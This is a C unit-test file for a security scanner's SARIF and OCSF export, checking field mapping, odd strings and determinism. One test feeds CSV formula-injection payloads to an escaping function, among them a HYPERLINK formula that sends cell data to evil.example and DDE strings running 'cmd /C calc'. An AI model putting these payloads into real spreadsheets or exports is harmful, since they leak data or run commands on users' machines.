/* test_export.c - SARIF and OCSF output of stored findings.
 *
 * Findings are built by hand (no store): ordinary ones and nasty ones
 * (quotes, newlines, non-ASCII, a byte that is not UTF-8, NULL optional
 * fields, evidence that is not JSON).  Every document is parsed back with
 * the project's JSON parser and checked field by field.
 *
 * `test_export --dump DIR` writes the documents to DIR/sample.sarif and
 * DIR/sample.ocsf.json instead, for tests/integration/test_formats.py to
 * validate against the published schemas.
 */
#include <stdlib.h>
#include <string.h>

#include "output/ocsf.h"
#include "output/report.h"
#include "output/sarif.h"
#include "json/json.h"
#include "t.h"

static arena *A;

/* ---- sample findings ---- */

static stored_finding base(const char *fp, const char *policy, const char *sev, int rank)
{
    stored_finding f;
    memset(&f, 0, sizeof f);
    snprintf(f.fingerprint, sizeof f.fingerprint, "%s", fp);
    f.policy = policy;
    f.description = "Security group allows SSH from anywhere. Restrict it.";
    f.severity = sev;
    f.severity_rank = rank;
    f.category = "network-exposure";
    f.resource_type = "aws.security-group";
    f.resource_id = "sg-0123456789abcdef0";
    f.resource_name = "bastion";
    f.account_id = "111122223333";
    f.account_name = "prod-payments";
    f.team = "payments";
    f.environment = "prod";
    f.region = "eu-west-1";
    f.priority = 87;
    f.reasons = "[\"prod account\",\"reachable from the internet\"]";
    f.fix = "aws ec2 revoke-security-group-ingress --group-id sg-0123456789abcdef0";
    f.runbook = "## Steps\n1. Check who uses it.\n2. Revoke.";
    f.evidence = "{\"IpPermissions\":[{\"FromPort\":22,\"IpRanges\":[\"0.0.0.0/0\"]}]}";
    f.status = "new";
    f.first_seen = 1714521600; /* 2024-05-01T00:00:00Z */
    f.last_seen = 1714608000;  /* 2024-05-02T00:00:00Z */
    f.first_scan = 1;
    f.last_scan = 2;
    return f;
}

/* Four findings over three policies, in priority order (not name order). */
static size_t sample(stored_finding *f)
{
    f[0] = base("0123456789abcdef", "sg-ssh-world", "critical", 4);
    f[1] = base("fedcba9876543210", "s3-public-read", "high", 3);
    f[1].description = "Bucket \"readable\" by everyone\nsee runbook";
    f[1].resource_type = "aws.s3";
    f[1].resource_id = "arn:aws:s3:::my bucket/é";
    f[1].resource_name = NULL;
    f[1].team = NULL;
    f[1].environment = NULL;
    f[1].region = NULL;
    f[1].fix = NULL;
    f[1].runbook = NULL;
    f[1].evidence = NULL;
    f[1].reasons = "[]";
    f[1].status = "suppressed";
    f[1].suppression_id = 7;
    f[1].suppression_reason = "accepted risk \"public website\"\tticket SEC-1";
    f[1].suppression_author = "ana";
    f[1].suppressed_until = 1717200000; /* 2024-06-01 */
    f[2] = base("00000000000000aa", "sg-ssh-world", "critical", 4);
    f[2].resource_id = "sg-2";
    f[2].resource_name = "caf\xc3\xa9 \xf0\x9f\x94\x92 bad\xff byte";
    f[2].status = "regressed";
    f[2].evidence = "not json {";
    f[3] = base("00000000000000bb", "iam-user-no-mfa", "low", 1);
    f[3].description = NULL;
    f[3].category = NULL;
    f[3].resource_type = "aws.iam-user";
    f[3].resource_id = "..";
    f[3].status = "resolved";
    f[3].resolved_at = 1714694400;
    return 4;
}

/* ---- JSON access ---- */

/* Follows a dotted path; numeric segments index arrays. */
static const jv *P(const jv *v, const char *path)
{
    char seg[128];
    while (v && *path) {
        size_t n = strcspn(path, ".");
        if (n >= sizeof seg) return NULL;
        memcpy(seg, path, n);
        seg[n] = 0;
        path += n + (path[n] == '.');
        if (v->kind == JV_ARRAY) {
            char *end;
            unsigned long i = strtoul(seg, &end, 10);
            v = (*end || i >= v->len) ? NULL : &v->u.items[i];
        } else {
            v = jv_get(v, seg);
        }
    }
    return v;
}

static const char *S(const jv *root, const char *path)
{
    const jv *v = P(root, path);
    return v && v->kind == JV_STRING ? v->u.str : NULL;
}

static double N(const jv *root, const char *path)
{
    const jv *v = P(root, path);
    return v && v->kind == JV_NUMBER ? v->u.num : -1e300;
}

static size_t LEN(const jv *root, const char *path)
{
    const jv *v = P(root, path);
    return v && (v->kind == JV_ARRAY || v->kind == JV_OBJECT) ? v->len : (size_t)-1;
}

static int parse_doc(const buf *b, jv *out)
{
    json_error err;
    if (json_parse(A, b->data, b->len, out, &err) != 0) {
        printf("# output does not parse: %d:%d %s\n", err.line, err.col, err.msg);
        return -1;
    }
    return 0;
}

static bool valid_utf8(const char *s, size_t n)
{
    for (size_t i = 0; i < n;) {
        unsigned char c = (unsigned char)s[i];
        size_t k = c < 0x80             ? 1
                   : (c & 0xE0) == 0xC0 ? 2
                   : (c & 0xF0) == 0xE0 ? 3
                   : (c & 0xF8) == 0xF0 ? 4
                                        : 0;
        if (!k || i + k > n) return false;
        for (size_t j = 1; j < k; j++)
            if (((unsigned char)s[i + j] & 0xC0) != 0x80) return false;
        i += k;
    }
    return true;
}

/* ---- SARIF ---- */

static jv sarif_doc(const stored_finding *f, size_t n, buf *b)
{
    jv doc = jv_null();
    sarif_write(b, f, n, "1.2.3");
    if (parse_doc(b, &doc) != 0) return jv_null();
    return doc;
}

/* ---- CSV cells: no formula, whatever the name says ---- */

static const char *csv(const char *s)
{
    buf b = BUF_INIT;
    csv_field(&b, s);
    const char *out = arena_strdup(A, b.data ? b.data : "");
    buf_free(&b);
    return out;
}

TEST(csv_cells_never_start_a_formula)
{
    CHECK_STR(csv("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
              "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
    CHECK_STR(csv("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
    CHECK_STR(csv("@SUM(A1)"), "'@SUM(A1)");
    CHECK_STR(csv("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
    CHECK_STR(csv("\tx"), "'\tx");
    CHECK_STR(csv("\rx"), "\"'\rx\"");
    /* Data stays data: negative numbers, inner signs, ordinary names. */
    CHECK_STR(csv("-12"), "-12");
    CHECK_STR(csv("-0.5"), "-0.5");
    CHECK_STR(csv("-1e-3"), "-1e-3");
    CHECK_STR(csv("-"), "'-");
    CHECK_STR(csv("-1."), "'-1.");
    CHECK_STR(csv("web-prod"), "web-prod");
    CHECK_STR(csv("a=b"), "a=b");
    CHECK_STR(csv("a,b"), "\"a,b\"");
    CHECK_STR(csv(NULL), "");
}

TEST(sarif_log_and_driver)
{
    stored_finding f[4];
    size_t n = sample(f);
    buf b = BUF_INIT;
    jv d = sarif_doc(f, n, &b);
    CHECK_STR(S(&d, "version"), "2.1.0");
    CHECK_STR(S(&d, "$schema"), SARIF_SCHEMA_URI);
    CHECK(LEN(&d, "runs") == 1);
    CHECK_STR(S(&d, "runs.0.tool.driver.name"), "custos");
    CHECK_STR(S(&d, "runs.0.tool.driver.semanticVersion"), "1.2.3");
    CHECK_STR(S(&d, "runs.0.tool.driver.version"), "1.2.3");
    CHECK(LEN(&d, "runs.0.results") == 4);
    CHECK(valid_utf8(b.data, b.len));
    buf_free(&b);
}

TEST(sarif_rules_one_per_policy_sorted)
{
    stored_finding f[4];
    size_t n = sample(f);
    buf b = BUF_INIT;
    jv d = sarif_doc(f, n, &b);
    CHECK(LEN(&d, "runs.0.tool.driver.rules") == 3);
    CHECK_STR(S(&d, "runs.0.tool.driver.rules.0.id"), "iam-user-no-mfa");
    CHECK_STR(S(&d, "runs.0.tool.driver.rules.1.id"), "s3-public-read");
    CHECK_STR(S(&d, "runs.0.tool.driver.rules.2.id"), "sg-ssh-world");
    /* every result points at its own rule */
    for (int i = 0; i < 4; i++) {
        char p[64];
        snprintf(p, sizeof p, "runs.0.results.%d.ruleIndex", i);
        int idx = (int)N(&d, p);
        snprintf(p, sizeof p, "runs.0.results.%d.ruleId", i);
        const char *id = S(&d, p);
        char q[64];
        snprintf(q, sizeof q, "runs.0.tool.driver.rules.%d.id", idx);
        CHECK_STR(S(&d, q), id);
    }
    CHECK(N(&d, "runs.0.results.0.ruleIndex") == 2);
    CHECK(N(&d, "runs.0.results.1.ruleIndex") == 1);
    CHECK(N(&d, "runs.0.results.3.ruleIndex") == 0);
    const char *r2 = "runs.0.tool.driver.rules.2.";
    char p[96];
#define RP(x) (snprintf(p, sizeof p, "%s%s", r2, x), p)
    CHECK_STR(S(&d, RP("shortDescription.text")), "Security group allows SSH from anywhere.");
    CHECK_STR(S(&d, RP("fullDescription.text")),
              "Security group allows SSH from anywhere. Restrict it.");
    CHECK(strstr(S(&d, RP("help.text")), "Severity: critical") != NULL);
    CHECK(S(&d, RP("help.markdown")) != NULL);
    CHECK_STR(S(&d, RP("defaultConfiguration.level")), "error");
    CHECK_STR(S(&d, RP("properties.severity")), "critical");
    CHECK_STR(S(&d, RP("properties.category")), "network-exposure");
    CHECK_STR(S(&d, RP("properties.tags.0")), "security");
    CHECK_STR(S(&d, RP("properties.tags.1")), "network-exposure");
    CHECK_STR(S(&d, RP("properties.security-severity")), "9.5");
#undef RP
    /* a policy without description or category still gets a full rule */
    CHECK_STR(S(&d, "runs.0.tool.driver.rules.0.shortDescription.text"), "iam-user-no-mfa");
    CHECK_STR(S(&d, "runs.0.tool.driver.rules.0.defaultConfiguration.level"), "note");
    CHECK(LEN(&d, "runs.0.tool.driver.rules.0.properties.tags") == 1);
    CHECK_STR(S(&d, "runs.0.tool.driver.rules.1.properties.security-severity"), "8.0");
    buf_free(&b);
    /* a category named "security" is not tagged twice */
    stored_finding g = base("0123456789abcdef", "p", "high", 3);
    g.category = "security";
    buf c = BUF_INIT;
    jv e = sarif_doc(&g, 1, &c);
    CHECK(LEN(&e, "runs.0.tool.driver.rules.0.properties.tags") == 1);
    buf_free(&c);
}

TEST(sarif_levels_and_security_severity)
{
    CHECK_STR(sarif_level(4), "error");
    CHECK_STR(sarif_level(3), "error");
    CHECK_STR(sarif_level(2), "warning");
    CHECK_STR(sarif_level(1), "note");
    CHECK_STR(sarif_level(0), "note");
    CHECK_STR(sarif_security_severity(4), "9.5");
    CHECK_STR(sarif_security_severity(2), "5.5");
    CHECK_STR(sarif_security_severity(0), "1.0");
    CHECK_STR(sarif_security_severity(99), "1.0");
    /* the stored rank is out of range: the name decides */
    stored_finding f = base("0123456789abcdef", "p", "medium", -1);
    buf b = BUF_INIT;
    jv d = sarif_doc(&f, 1, &b);
    CHECK_STR(S(&d, "runs.0.results.0.level"), "warning");
    CHECK_STR(S(&d, "runs.0.tool.driver.rules.0.properties.security-severity"), "5.5");
    buf_free(&b);
}

TEST(sarif_result_fields)
{
    stored_finding f[4];
    size_t n = sample(f);
    buf b = BUF_INIT;
    jv d = sarif_doc(f, n, &b);
    const char *msg = S(&d, "runs.0.results.0.message.text");
    CHECK_STR(msg, "Security group allows SSH from anywhere. Restrict it. Resource: "
                   "aws.security-group sg-0123456789abcdef0 (bastion), account prod-payments "
                   "(111122223333), eu-west-1. Fix: aws ec2 revoke-security-group-ingress "
                   "--group-id sg-0123456789abcdef0");
    CHECK_STR(S(&d, "runs.0.results.0.level"), "error");
    CHECK_STR(S(&d, "runs.0.results.0.partialFingerprints.custos/v1"), "0123456789abcdef");
    CHECK_STR(S(&d, "runs.0.results.0.baselineState"), "new");
    CHECK(P(&d, "runs.0.results.0.suppressions") == NULL);
    CHECK(N(&d, "runs.0.results.0.rank") == 87);
    const char *pp = "runs.0.results.0.properties.";
    char p[96];
#define PP(x) (snprintf(p, sizeof p, "%s%s", pp, x), p)
    CHECK(N(&d, PP("priority")) == 87);
    CHECK(LEN(&d, PP("reasons")) == 2);
    CHECK_STR(S(&d, PP("reasons.1")), "reachable from the internet");
    CHECK_STR(S(&d, PP("status")), "new");
    CHECK_STR(S(&d, PP("first_seen")), "2024-05-01T00:00:00Z");
    CHECK_STR(S(&d, PP("last_seen")), "2024-05-02T00:00:00Z");
    CHECK(P(&d, PP("resolved_at")) == NULL);
    CHECK_STR(S(&d, PP("account_name")), "prod-payments");
    CHECK_STR(S(&d, PP("team")), "payments");
    CHECK_STR(S(&d, PP("environment")), "prod");
    CHECK_STR(S(&d, PP("runbook")), "## Steps\n1. Check who uses it.\n2. Revoke.");
    /* evidence is JSON, not a string holding JSON */
    CHECK(P(&d, PP("evidence"))->kind == JV_OBJECT);
    CHECK(N(&d, PP("evidence.IpPermissions.0.FromPort")) == 22);
    CHECK_STR(S(&d, PP("evidence.IpPermissions.0.IpRanges.0")), "0.0.0.0/0");
#undef PP
    /* resolved: absent from the baseline, with its time */
    CHECK_STR(S(&d, "runs.0.results.3.baselineState"), "absent");
    CHECK_STR(S(&d, "runs.0.results.3.properties.resolved_at"), "2024-05-03T00:00:00Z");
    CHECK_STR(S(&d, "runs.0.results.2.baselineState"), "new");
    buf_free(&b);
}

TEST(sarif_locations)
{
    stored_finding f[4];
    size_t n = sample(f);
    buf b = BUF_INIT;
    jv d = sarif_doc(f, n, &b);
    CHECK_STR(S(&d, "runs.0.results.0.locations.0.physicalLocation.artifactLocation.uri"),
              "aws/111122223333/eu-west-1/security-group/sg-0123456789abcdef0");
    CHECK(N(&d, "runs.0.results.0.locations.0.physicalLocation.region.startLine") == 1);
    CHECK_STR(S(&d, "runs.0.results.0.locations.0.logicalLocations.0.fullyQualifiedName"),
              "aws/111122223333/eu-west-1/security-group/sg-0123456789abcdef0");
    CHECK_STR(S(&d, "runs.0.results.0.locations.0.logicalLocations.0.kind"), "resource");
    CHECK_STR(S(&d, "runs.0.results.0.locations.0.logicalLocations.0.name"),
              "sg-0123456789abcdef0");
    /* an ARN with ":", "/", a space and non-ASCII stays inside one segment;
     * no region reads as global */
    CHECK_STR(S(&d, "runs.0.results.1.locations.0.physicalLocation.artifactLocation.uri"),
              "aws/111122223333/global/s3/arn%3Aaws%3As3%3A%3A%3Amy%20bucket%2F%C3%A9");
    CHECK_STR(S(&d, "runs.0.results.1.locations.0.logicalLocations.0.fullyQualifiedName"),
              "aws/111122223333/global/s3/arn:aws:s3:::my bucket/\xc3\xa9");
    /* a dot segment would be collapsed by a URI resolver */
    CHECK_STR(S(&d, "runs.0.results.3.locations.0.physicalLocation.artifactLocation.uri"),
              "aws/111122223333/eu-west-1/iam-user/%2E%2E");
    buf_free(&b);
}

TEST(sarif_nasty_strings_and_nulls)
{
    stored_finding f[4];
    size_t n = sample(f);
    buf b = BUF_INIT;
    jv d = sarif_doc(f, n, &b);
    CHECK(valid_utf8(b.data, b.len));
    /* quotes and newlines survive the round trip */
    CHECK_STR(S(&d, "runs.0.tool.driver.rules.1.fullDescription.text"),
              "Bucket \"readable\" by everyone\nsee runbook");
    CHECK_STR(S(&d, "runs.0.tool.driver.rules.1.shortDescription.text"),
              "Bucket \"readable\" by everyone");
    const char *m1 = S(&d, "runs.0.results.1.message.text");
    CHECK(m1 && strstr(m1, "Fix:") == NULL); /* no fix, no "Fix:" */
    CHECK(m1 && strstr(m1, "global.") != NULL);
    /* NULL optional fields are left out, not written as null */
    CHECK(P(&d, "runs.0.results.1.properties.team") == NULL);
    CHECK(P(&d, "runs.0.results.1.properties.runbook") == NULL);
    CHECK(P(&d, "runs.0.results.1.properties.evidence") == NULL);
    CHECK(P(&d, "runs.0.results.1.properties.resource_name") == NULL);
    CHECK(LEN(&d, "runs.0.results.1.properties.reasons") == 0);
    /* suppressed: a SARIF suppression with the reason */
    CHECK_STR(S(&d, "runs.0.results.1.suppressions.0.kind"), "external");
    CHECK_STR(S(&d, "runs.0.results.1.suppressions.0.status"), "accepted");
    CHECK_STR(S(&d, "runs.0.results.1.suppressions.0.justification"),
              "accepted risk \"public website\"\tticket SEC-1");
    CHECK_STR(S(&d, "runs.0.results.1.properties.suppression.author"), "ana");
    CHECK_STR(S(&d, "runs.0.results.1.properties.suppression.until"), "2024-06-01T00:00:00Z");
    CHECK_STR(S(&d, "runs.0.results.1.baselineState"), "unchanged");
    /* non-ASCII kept, the invalid byte replaced by U+FFFD */
    CHECK_STR(S(&d, "runs.0.results.2.properties.resource_name"),
              "caf\xc3\xa9 \xf0\x9f\x94\x92 bad\xef\xbf\xbd byte");
    /* evidence that is not JSON is kept as text */
    CHECK_STR(S(&d, "runs.0.results.2.properties.evidence"), "not json {");
    buf_free(&b);
}

TEST(sarif_empty_and_deterministic)
{
    buf b = BUF_INIT, c = BUF_INIT;
    jv d = sarif_doc(NULL, 0, &b);
    CHECK(LEN(&d, "runs.0.results") == 0);
    CHECK(LEN(&d, "runs.0.tool.driver.rules") == 0);
    buf_reset(&b);
    stored_finding f[4];
    size_t n = sample(f);
    sarif_write(&b, f, n, "1.2.3");
    sarif_write(&c, f, n, "1.2.3");
    CHECK(b.len == c.len && memcmp(b.data, c.data, b.len) == 0);
    /* no version: no version fields, still valid */
    buf_reset(&c);
    sarif_write(&c, f, n, NULL);
    jv e;
    CHECK(parse_doc(&c, &e) == 0);
    CHECK(P(&e, "runs.0.tool.driver.semanticVersion") == NULL);
    buf_free(&b);
    buf_free(&c);
}

/* ---- OCSF ---- */

static jv ocsf_doc(const stored_finding *f, size_t n, buf *b)
{
    jv doc = jv_null();
    ocsf_write(b, f, n, "1.2.3");
    if (parse_doc(b, &doc) != 0) return jv_null();
    return doc;
}

TEST(ocsf_event_classification)
{
    stored_finding f[4];
    size_t n = sample(f);
    buf b = BUF_INIT;
    jv d = ocsf_doc(f, n, &b);
    CHECK(d.kind == JV_ARRAY && d.len == 4);
    CHECK(valid_utf8(b.data, b.len));
    CHECK(N(&d, "0.class_uid") == 2004);
    CHECK_STR(S(&d, "0.class_name"), "Detection Finding");
    CHECK(N(&d, "0.category_uid") == 2);
    CHECK_STR(S(&d, "0.category_name"), "Findings");
    CHECK_STR(S(&d, "0.metadata.version"), "1.3.0");
    CHECK_STR(S(&d, "0.metadata.product.name"), "custos");
    CHECK_STR(S(&d, "0.metadata.product.vendor_name"), "custos");
    CHECK_STR(S(&d, "0.metadata.product.version"), "1.2.3");
    CHECK_STR(S(&d, "0.metadata.profiles.0"), "cloud");
    CHECK_STR(S(&d, "0.metadata.uid"), "0123456789abcdef:2");
    /* severities: critical 5, high 4, low 2 */
    CHECK(N(&d, "0.severity_id") == 5);
    CHECK_STR(S(&d, "0.severity"), "Critical");
    CHECK(N(&d, "1.severity_id") == 4);
    CHECK(N(&d, "3.severity_id") == 2);
    CHECK_STR(S(&d, "3.severity"), "Low");
    buf_free(&b);
}

TEST(ocsf_lifecycle)
{
    stored_finding f[4];
    size_t n = sample(f);
    buf b = BUF_INIT;
    jv d = ocsf_doc(f, n, &b);
    /* new: Create / New */
    CHECK(N(&d, "0.activity_id") == 1);
    CHECK_STR(S(&d, "0.activity_name"), "Create");
    CHECK(N(&d, "0.type_uid") == 200401);
    CHECK_STR(S(&d, "0.type_name"), "Detection Finding: Create");
    CHECK(N(&d, "0.status_id") == 1);
    CHECK_STR(S(&d, "0.status"), "New");
    CHECK_STR(S(&d, "0.status_detail"), "custos: new");
    /* suppressed: Update / Suppressed */
    CHECK(N(&d, "1.activity_id") == 2);
    CHECK(N(&d, "1.type_uid") == 200402);
    CHECK(N(&d, "1.status_id") == 3);
    CHECK_STR(S(&d, "1.status"), "Suppressed");
    /* regressed: Update / New */
    CHECK(N(&d, "2.activity_id") == 2);
    CHECK(N(&d, "2.status_id") == 1);
    CHECK_STR(S(&d, "2.status_detail"), "custos: regressed");
    /* resolved: Close / Resolved, at the time it was resolved */
    CHECK(N(&d, "3.activity_id") == 3);
    CHECK(N(&d, "3.type_uid") == 200403);
    CHECK(N(&d, "3.status_id") == 4);
    CHECK_STR(S(&d, "3.status"), "Resolved");
    CHECK(N(&d, "3.time") == 1714694400000.0);
    CHECK(N(&d, "0.time") == 1714608000000.0);
    buf_free(&b);
}

TEST(ocsf_finding_resource_cloud)
{
    stored_finding f[4];
    size_t n = sample(f);
    buf b = BUF_INIT;
    jv d = ocsf_doc(f, n, &b);
    CHECK_STR(S(&d, "0.finding_info.uid"), "0123456789abcdef");
    CHECK_STR(S(&d, "0.finding_info.title"), "Security group allows SSH from anywhere.");
    CHECK_STR(S(&d, "0.finding_info.desc"),
              "Security group allows SSH from anywhere. Restrict it.");
    CHECK_STR(S(&d, "0.finding_info.types.0"), "network-exposure");
    CHECK(N(&d, "0.finding_info.created_time") == 1714521600000.0);
    CHECK(N(&d, "0.finding_info.first_seen_time") == 1714521600000.0);
    CHECK(N(&d, "0.finding_info.last_seen_time") == 1714608000000.0);
    CHECK_STR(S(&d, "0.finding_info.analytic.uid"), "sg-ssh-world");
    CHECK(N(&d, "0.finding_info.analytic.type_id") == 1);
    CHECK(LEN(&d, "0.resources") == 1);
    CHECK_STR(S(&d, "0.resources.0.uid"), "sg-0123456789abcdef0");
    CHECK_STR(S(&d, "0.resources.0.name"), "bastion");
    CHECK_STR(S(&d, "0.resources.0.type"), "aws.security-group");
    CHECK_STR(S(&d, "0.resources.0.region"), "eu-west-1");
    CHECK_STR(S(&d, "0.resources.0.cloud_partition"), "aws");
    CHECK_STR(S(&d, "0.cloud.provider"), "AWS");
    CHECK_STR(S(&d, "0.cloud.region"), "eu-west-1");
    CHECK_STR(S(&d, "0.cloud.account.uid"), "111122223333");
    CHECK_STR(S(&d, "0.cloud.account.name"), "prod-payments");
    CHECK(N(&d, "0.cloud.account.type_id") == 10);
    CHECK_STR(S(&d, "0.cloud.account.labels.0"), "team:payments");
    CHECK_STR(S(&d, "0.cloud.account.labels.1"), "environment:prod");
    CHECK_STR(S(&d, "0.remediation.desc"),
              "aws ec2 revoke-security-group-ingress --group-id sg-0123456789abcdef0");
    CHECK(N(&d, "0.risk_score") == 87);
    /* evidence as JSON, in evidences[].data */
    CHECK(P(&d, "0.evidences.0.data")->kind == JV_OBJECT);
    CHECK(N(&d, "0.evidences.0.data.IpPermissions.0.FromPort") == 22);
    /* what OCSF has no place for */
    CHECK_STR(S(&d, "0.unmapped.custos.reasons.0"), "prod account");
    CHECK_STR(S(&d, "0.unmapped.custos.runbook"), "## Steps\n1. Check who uses it.\n2. Revoke.");
    CHECK_STR(S(&d, "0.unmapped.custos.first_seen"), "2024-05-01T00:00:00Z");
    CHECK(N(&d, "0.unmapped.custos.priority") == 87);
    buf_free(&b);
}

TEST(ocsf_nasty_strings_and_nulls)
{
    stored_finding f[4];
    size_t n = sample(f);
    buf b = BUF_INIT;
    jv d = ocsf_doc(f, n, &b);
    CHECK(valid_utf8(b.data, b.len));
    /* no region: none in cloud or the resource; no name, no labels */
    CHECK(P(&d, "1.cloud.region") == NULL);
    CHECK(P(&d, "1.resources.0.region") == NULL);
    CHECK(P(&d, "1.resources.0.name") == NULL);
    CHECK(P(&d, "1.cloud.account.labels") == NULL);
    CHECK_STR(S(&d, "1.resources.0.uid"), "arn:aws:s3:::my bucket/\xc3\xa9");
    /* no fix and no runbook: no remediation; no evidence: no evidences */
    CHECK(P(&d, "1.remediation") == NULL);
    CHECK(P(&d, "1.evidences") == NULL);
    CHECK_STR(S(&d, "1.finding_info.title"), "Bucket \"readable\" by everyone");
    CHECK_STR(S(&d, "1.unmapped.custos.suppression.reason"),
              "accepted risk \"public website\"\tticket SEC-1");
    CHECK_STR(S(&d, "1.unmapped.custos.suppression.until"), "2024-06-01T00:00:00Z");
    CHECK_STR(S(&d, "2.resources.0.name"), "caf\xc3\xa9 \xf0\x9f\x94\x92 bad\xef\xbf\xbd byte");
    CHECK_STR(S(&d, "2.evidences.0.data"), "not json {");
    /* no description or category: the policy names the finding */
    CHECK_STR(S(&d, "3.finding_info.title"), "iam-user-no-mfa");
    CHECK(P(&d, "3.finding_info.types") == NULL);
    CHECK_STR(S(&d, "3.message"), "iam-user-no-mfa");
    CHECK_STR(S(&d, "3.unmapped.custos.resolved_at"), "2024-05-03T00:00:00Z");
    /* a finding with a runbook but no fix points at the runbook */
    stored_finding g = base("0123456789abcdef", "p", "low", 1);
    g.fix = NULL;
    buf c = BUF_INIT;
    jv e = ocsf_doc(&g, 1, &c);
    CHECK(S(&e, "0.remediation.desc") && strstr(S(&e, "0.remediation.desc"), "runbook"));
    buf_free(&c);
    buf_free(&b);
}

TEST(ocsf_empty_and_deterministic)
{
    buf b = BUF_INIT, c = BUF_INIT;
    jv d = ocsf_doc(NULL, 0, &b);
    CHECK(d.kind == JV_ARRAY && d.len == 0);
    buf_reset(&b);
    stored_finding f[4];
    size_t n = sample(f);
    ocsf_write(&b, f, n, "1.2.3");
    ocsf_write(&c, f, n, "1.2.3");
    CHECK(b.len == c.len && memcmp(b.data, c.data, b.len) == 0);
    buf_reset(&c);
    ocsf_write(&c, f, n, NULL);
    jv e;
    CHECK(parse_doc(&c, &e) == 0);
    CHECK(P(&e, "0.metadata.product.version") == NULL);
    buf_free(&b);
    buf_free(&c);
}

/* ---- dump for the schema validation test ---- */

static int dump(const char *dir)
{
    stored_finding f[4];
    size_t n = sample(f);
    const char *names[2] = {"sample.sarif", "sample.ocsf.json"};
    for (int k = 0; k < 2; k++) {
        buf b = BUF_INIT;
        if (k == 0)
            sarif_write(&b, f, n, "1.2.3");
        else
            ocsf_write(&b, f, n, "1.2.3");
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, names[k]);
        FILE *fp = fopen(path, "wb");
        if (!fp || fwrite(b.data, 1, b.len, fp) != b.len || fclose(fp) != 0) {
            fprintf(stderr, "test_export: cannot write %s\n", path);
            buf_free(&b);
            return 1;
        }
        buf_free(&b);
    }
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 3 && !strcmp(argv[1], "--dump")) return dump(argv[2]);
    A = arena_new(0);
    RUN(csv_cells_never_start_a_formula);
    RUN(sarif_log_and_driver);
    RUN(sarif_rules_one_per_policy_sorted);
    RUN(sarif_levels_and_security_severity);
    RUN(sarif_result_fields);
    RUN(sarif_locations);
    RUN(sarif_nasty_strings_and_nulls);
    RUN(sarif_empty_and_deterministic);
    RUN(ocsf_event_classification);
    RUN(ocsf_lifecycle);
    RUN(ocsf_finding_resource_cloud);
    RUN(ocsf_nasty_strings_and_nulls);
    RUN(ocsf_empty_and_deterministic);
    arena_free(A);
    T_EXIT();
}
